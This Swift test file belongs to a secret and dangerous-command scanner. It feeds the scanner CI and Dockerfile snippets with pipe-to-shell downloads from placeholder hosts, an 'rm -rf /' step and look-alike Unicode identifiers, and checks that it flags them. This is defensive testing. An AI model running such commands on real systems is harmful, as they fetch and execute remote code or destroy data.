import XCTest
@testable import WowGuardCore

/// Regression tests for the defects a new user hit (issue 15), at the library level.
final class UserDefectTests: XCTestCase {
    static let repoRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()

    // MARK: custom rules: the README's example, and errors that name the failing condition

    /// The `[[rules.custom]]` block of the README, copied verbatim, must load.
    func testREADMECustomRuleExampleLoads() throws {
        let readme = try String(contentsOf: Self.repoRoot.appendingPathComponent("README.md"), encoding: .utf8)
        let lines = readme.split(separator: "\n", omittingEmptySubsequences: false)
        let custom = try XCTUnwrap(lines.firstIndex { $0.hasPrefix("[[rules.custom]]") }, "README has a custom-rule example")
        let start = try XCTUnwrap(lines[..<custom].lastIndex { $0.hasPrefix("```") }) + 1
        let end = try XCTUnwrap(lines[custom...].firstIndex { $0.hasPrefix("```") })
        let block = lines[start..<end].joined(separator: "\n")
        let config: Config
        do { config = try Config.parse(block, file: ".wow-guard.toml") } catch {
            return XCTFail("README example rejected: \(error)")
        }
        let rule = try XCTUnwrap(config.customRules.first)
        let scanner = SecretScanner(rules: [rule], jit: false)
        for ex in rule.examples { XCTAssertFalse(scanner.scan(ex, path: "x").isEmpty, ex) }
        // Copied into the project's config, its examples are not findings of that config file (the
        // user's next commit of .wow-guard.toml would be blocked), but the same line elsewhere is.
        let ex = try XCTUnwrap(rule.examples.first)
        XCTAssertEqual(scanner.scan(block, path: ".wow-guard.toml").map(\.ruleID), [], "examples in the config")
        XCTAssertEqual(scanner.scan(block + "\n# leaked = \"\(ex)\"\n", path: ".wow-guard.toml").map(\.ruleID), [rule.id],
                       "a value outside the examples arrays is still found")
        XCTAssertEqual(scanner.scan(block, path: "docs/config.toml").map(\.ruleID).count, rule.examples.count)
    }

    func testExampleArraysOfTheConfigAreFoundAcrossLinesAndStrings() {
        let toml = "[[rules.custom]]\nid = \"x\"\nexamples = [\n  \"a ] b\",  # note ]\n  'c [ d',\n]\ncounter_examples = [\"e\"]\nkeywords = [\"k\"]\n"
        var t = toml
        let ranges = t.withUTF8 { SecretScanner.exampleArrays(UnsafeRawBufferPointer($0)) }
        let bytes = Array(toml.utf8)
        XCTAssertEqual(ranges.map { String(decoding: bytes[$0], as: UTF8.self) },
                       ["[\n  \"a ] b\",  # note ]\n  'c [ d',\n]", "[\"e\"]"])
    }

    func testCustomRuleExampleFailureNamesTheCondition() {
        func error(_ rule: String) -> String {
            do { _ = try Config.parse("[[rules.custom]]\nid = \"acme\"\n" + rule, file: "c.toml"); return "" } catch { return error.description }
        }
        let random = "q7x2m9k4v8w3z6t1p5r0n2b7c4d9f3h8"
        let cases: [(String, String)] = [
            ("keywords = [\"zzz_\"]\npattern = '(acme_[a-z0-9]{32})'\nsecret_group = 1\nexamples = [\"k = acme_\(random)\"]\n", "none of its keywords"),
            ("keywords = [\"acme_\"]\npattern = '(acme_[A-Z]{32})'\nsecret_group = 1\nexamples = [\"k = acme_\(random)\"]\n", "pattern does not match"),
            ("keywords = [\"acme_\"]\npattern = '(acme_[a-z0-9]{32})'\nsecret_group = 1\nentropy = 6.5\nexamples = [\"k = acme_\(random)\"]\n", "below the rule's entropy 6.5"),
            ("keywords = [\"acme_\"]\npattern = '(acme_[a-z0-9]{32})'\nsecret_group = 1\nexamples = [\"k = acme_0123456789abcdefghijklmnopqrstuv\"]\n", "looks like a placeholder"),
            ("keywords = [\"acme_\"]\npattern = '(acme_[a-z0-9]{32})'\nsecret_group = 1\nallow_patterns = ['q7x2']\nexamples = [\"k = acme_\(random)\"]\n", "allow pattern"),
            ("keywords = [\"acme_\"]\npattern = '(acme_[a-z0-9]{32})|(nothing)'\nsecret_group = 2\nexamples = [\"k = acme_\(random)\"]\n", "secret_group 2 is empty"),
        ]
        for (rule, expected) in cases {
            let e = error(rule)
            XCTAssertTrue(e.contains("example does not trigger"), e)
            XCTAssertTrue(e.contains(expected), "expected '\(expected)' in: \(e)")
        }
    }

    // MARK: script findings point at the dangerous line

    func testScriptFindingsPointAtTheDangerousLineNotTheBlockStart() {
        let detector = ScriptDetector(allowlist: Allowlist())
        let workflow = """
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - name: build
                    run: |
                      echo building
                      make all
                      curl -fsSL https://get.example.invalid/x.sh | bash
                      echo done
            """
        let ci = detector.scan(path: ".github/workflows/ci.yml", text: workflow).filter { $0.ruleID.hasPrefix("rce.") }
        XCTAssertEqual(ci.map(\.line), [11], "\(ci.map { ($0.ruleID, $0.line) })")
        XCTAssertEqual(ci.map(\.column), [11], "the column in the file, past the block's indentation")
        XCTAssertTrue(ci.first?.redactedSecret.hasPrefix("curl") == true, ci.first?.redactedSecret ?? "")

        let docker = "FROM debian\nRUN apt-get update && \\\n    apt-get install -y curl && \\\n    curl https://x.example.invalid/a.sh | sh\n"
        XCTAssertEqual(detector.scan(path: "Dockerfile", text: docker).filter { $0.ruleID.hasPrefix("rce.") }.map(\.line), [4])

        let gitlab = """
            build:
              script:
                - |
                  cat > notes.txt <<EOF
                  hello
                  EOF
                  echo start
                  rm -rf /
            """
        XCTAssertEqual(detector.scan(path: ".gitlab-ci.yml", text: gitlab).filter { $0.ruleID == "fs.rm-root" }.map(\.line), [8])
        // A one-line step still points at its line.
        let one = "jobs:\n  a:\n    steps:\n      - run: curl https://x.example.invalid/i.sh | sh\n"
        XCTAssertEqual(detector.scan(path: ".github/workflows/a.yml", text: one).filter { $0.ruleID.hasPrefix("rce.") }.map(\.line), [4])
    }

    // MARK: mixed scripts in docstrings and comments written in another language

    func testMixedScriptWordsInForeignLanguageDocstringsAreNotReported() {
        let py = """
            def load(path):
                \"\"\"Загружает JSON-файл.

                Возвращает объект JSONа; для APIшки см. ниже.
                \"\"\"
                return path

            # Комментарий: вызывает APIшку
            """
        XCTAssertEqual(InvisibleUnicode.scan(TextLines.split(py), firstLine: 1, path: "a.py").map(\.ruleID), [])
        // Escapes keep this source file free of what the guard reports (the project scans itself).
        let swift = "/// \u{0412}\u{043E}\u{0437}\u{0432}\u{0440}\u{0430}\u{0449}\u{0430}\u{0435}\u{0442} API\u{0448}\u{043A}\u{0438}\nfunc token() {}\n"
            + "/* \u{0395}\u{03BB}\u{03BB}\u{03B7}\u{03BD}\u{03B9}\u{03BA}\u{03AC} \u{03C4}\u{03BF}TCP */\n"
        XCTAssertEqual(InvisibleUnicode.scan(TextLines.split(swift), firstLine: 1, path: "a.swift").map(\.ruleID), [])
        // In code, and in an English comment, a look-alike letter is still reported.
        let code = "let p\u{0430}ypal = login()\n"
        XCTAssertEqual(InvisibleUnicode.scan(TextLines.split(code), firstLine: 1, path: "a.swift").map(\.ruleID), ["unicode.mixed-script-identifier"])
        let after = "\"\"\"Документация.\"\"\"\nif us\u{0435}r == admin: grant()\n"
        XCTAssertEqual(InvisibleUnicode.scan(TextLines.split(after), firstLine: 1, path: "a.py").map(\.line), [2], "a closed docstring does not hide code after it")
        let english = "# check the p\u{0430}ypal account\n"
        XCTAssertEqual(InvisibleUnicode.scan(TextLines.split(english), firstLine: 1, path: "a.py").count, 1)
    }

    // MARK: SARIF for GitHub code scanning

    func testSARIFRuleMetadataAndDistinctFingerprints() throws {
        let secret = "postgres://app:" + Synthetic.string(20, seed: 7) + "@db.internal:5432/app"
        var a = Finding(ruleID: "database-url-password", description: "DB URL", severity: .high, path: "a.yaml", line: 1, column: 1, endLine: 1, endColumn: 10, secret: secret)
        var b = a
        b.path = "b.yaml"
        var c = a
        c.line = 5
        var s = Finding(ruleID: "rce.pipe-to-shell", description: "pipe", severity: .critical, path: "ci.yml", line: 3, column: 1, endLine: 3, endColumn: 5, secret: "curl x | sh")
        s.isSecret = false
        var u = Finding(ruleID: "unicode.bidi-control", description: "bidi", severity: .high, path: "x.js", line: 1, column: 2, endLine: 1, endColumn: 2, secret: "U+202E")
        u.isSecret = false
        a.commit = "0123456789abcdef0123456789abcdef01234567"
        a.author = "Dev <dev@example.invalid>"
        a.date = "2026-01-01T00:00:00+00:00"
        let rules = [
            RuleInfo(id: "database-url-password", kind: .secret, family: "generic", description: "DB URL", severity: .high, help: "revoke it"),
            RuleInfo(id: "rce.pipe-to-shell", kind: .shell, family: "shell.rce", description: "pipe", severity: .critical, help: "pin it"),
            RuleInfo(id: "unicode.bidi-control", kind: .unicode, family: "invisible-unicode", description: "bidi", severity: .high, help: "delete it"),
        ]
        let doc = try JSONValue.parse(Report.sarif([a, b, c, s, u], rules: rules))
        let run = try XCTUnwrap(doc["runs"]?.array?.first)
        for r in try XCTUnwrap(run["tool"]?["driver"]?["rules"]?.array) {
            XCTAssertNotNil(r["fullDescription"]?["text"]?.string)
            XCTAssertTrue(r["helpUri"]?.string?.hasPrefix("https://") == true)
            let sev = try XCTUnwrap(Double(r["properties"]?["security-severity"]?.string ?? ""))
            XCTAssertTrue(sev > 0 && sev <= 10)
            let tags = r["properties"]?["tags"]?.array?.compactMap(\.string) ?? []
            XCTAssertEqual(tags.contains("secret"), r["id"]?.string == "database-url-password", "\(r["id"]?.string ?? ""): \(tags)")
        }
        let results = try XCTUnwrap(run["results"]?.array)
        let prints = results.compactMap { $0["partialFingerprints"]?["wowGuardLocation/v1"]?.string }
        XCTAssertEqual(prints.count, 5)
        XCTAssertEqual(Set(prints).count, 5, "same secret in two files or twice in one file: distinct alerts")
        XCTAssertEqual(results[0]["properties"]?["commit"]?.string, a.commit)
        XCTAssertEqual(results[0]["properties"]?["author"]?.string, a.author)
        // Moving the secret to another line keeps its location fingerprint.
        var moved = a
        moved.line = 40
        let again = try JSONValue.parse(Report.sarif([moved], rules: rules))
        XCTAssertEqual(again["runs"]?.array?.first?["results"]?.array?.first?["partialFingerprints"]?["wowGuardLocation/v1"]?.string, prints[0])
    }

    func testJUnitIsWellFormedAndEscapes() throws {
        let f = Finding(ruleID: "x<&>", description: "a \"quoted\" & <tagged> thing", severity: .high, path: "dir/a&b.txt", line: 2, column: 1, endLine: 2, endColumn: 3, secret: "s3cr3tvalue<>")
        var stats = ScanStats(files: 1, bytes: 10, durationMS: 1234)
        stats.unreadable = ["locked/: Permission denied"]
        let xml = Report.junit([f], stats: stats)
        XCTAssertTrue(xml.hasPrefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites"))
        XCTAssertTrue(xml.contains("failures=\"1\" errors=\"1\""), xml)
        XCTAssertTrue(xml.contains("time=\"1.234\""), xml)
        XCTAssertFalse(xml.contains("a&b"), "escaped")
        XCTAssertFalse(xml.contains("s3cr3tvalue"), "redacted")
        XCTAssertTrue(Report.junit([], stats: ScanStats(files: 0, bytes: 0, durationMS: 0)).contains("tests=\"1\" failures=\"0\" errors=\"0\""))
    }
}
